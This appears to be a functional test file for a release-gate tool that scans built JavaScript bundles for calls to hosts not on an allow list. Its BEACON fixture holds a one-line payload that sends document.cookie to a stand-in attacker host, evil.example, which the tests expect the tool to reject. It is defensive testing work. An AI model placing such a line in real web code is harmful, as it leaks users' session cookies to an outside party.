"""release check: the command line's gate before publish."""

import json

from tests.functional.conftest import Run
from tests.functional.library import Library

BEACON = 'navigator.sendBeacon("https://evil.example/b", document.cookie);\n'
LISTS = """
[domains]
connect = ["evil.example"]
"""
WAIVER = """
[[domains.waivers]]
files = "tag.min.js"
rule = "url"
host = "evil.example"
reason = "shown in a text only"
owner = "Ann"
expires = "2099-12-31"
"""


def built(library: Library, run: Run, script: str, domains: str = "") -> None:
    toml = (library.folder / "release.toml").read_text()
    library.write("release.toml", toml + domains)
    library.release("1.1.0", script)
    assert run("build").code == 0


def test_a_bundle_without_domains_may_load_from_nowhere(library: Library, run: Run) -> None:
    built(library, run, BEACON)
    ended = run("check")
    assert ended.code == 18
    assert "dist/tag.min.js:1:1: connect, unauthorised: navigator.sendBeacon: evil.example is on no list" in ended.out
    assert '[domains] connect = ["evil.example"] authorises it' in ended.out
    assert "tag 1.1.0 is rejected: 1 finding, 1 of them of hosts on no list" in ended.err


def test_a_bundle_that_keeps_to_its_lists_passes(library: Library, run: Run) -> None:
    built(library, run, BEACON, LISTS)
    ended = run("check")
    assert ended.code == 0, ended.out
    assert "1 files, 65 bytes: nothing loads, sends or injects where it is not authorised" in ended.out
    left = json.loads((library.folder / ".release" / "check.json").read_text())
    assert left["findings"] == []
    assert left["version"] == "1.1.0"


def test_a_waiver_is_logged(library: Library, run: Run) -> None:
    built(library, run, 'const help = "https://evil.example/docs";\n', WAIVER)
    ended = run("check")
    assert ended.code == 0, ended.out
    assert "waived until 2099-12-31 by Ann" in ended.err


def test_reports_for_machines(library: Library, run: Run) -> None:
    built(library, run, BEACON)
    ended = run("check", "--json", "--sarif", "check.sarif", "--code-quality", "quality.json")
    assert ended.code == 18
    assert json.loads(ended.out)["findings"][0]["host"] == "evil.example"
    assert json.loads((library.folder / "check.sarif").read_text())["runs"][0]["results"]
    assert json.loads((library.folder / "quality.json").read_text())[0]["check_name"] == "connect"


def test_without_a_bundle_there_is_nothing_to_check(run: Run) -> None:
    assert run("check").code == 5


def test_other_bytes_than_were_built_are_not_checked(library: Library, run: Run) -> None:
    built(library, run, "window.tag = 1;\n")
    library.write("dist/tag.min.js", BEACON)
    assert run("check").code == 7


def test_lists_that_mean_nothing_are_refused(library: Library, run: Run) -> None:
    toml = (library.folder / "release.toml").read_text()
    bad = '\n[domains]\nconnect = ["https://api.example.com", "*.com", "10.0.0.1"]\n' + WAIVER.replace("12-31", "02-30")
    library.write("release.toml", toml + bad)
    ended = run("config", "check")
    assert ended.code == 3
    assert "'https://api.example.com' is not a host such as api.example.com" in ended.err
    assert "'*.com' is not a host" in ended.err
    library.write("release.toml", toml + bad.replace('"https://api.example.com", "*.com", ', ""))
    ended = run("config", "check")
    assert "10.0.0.1 is an address, not a name" in ended.err
    assert "2099-02-30 is no day of the calendar" in ended.err
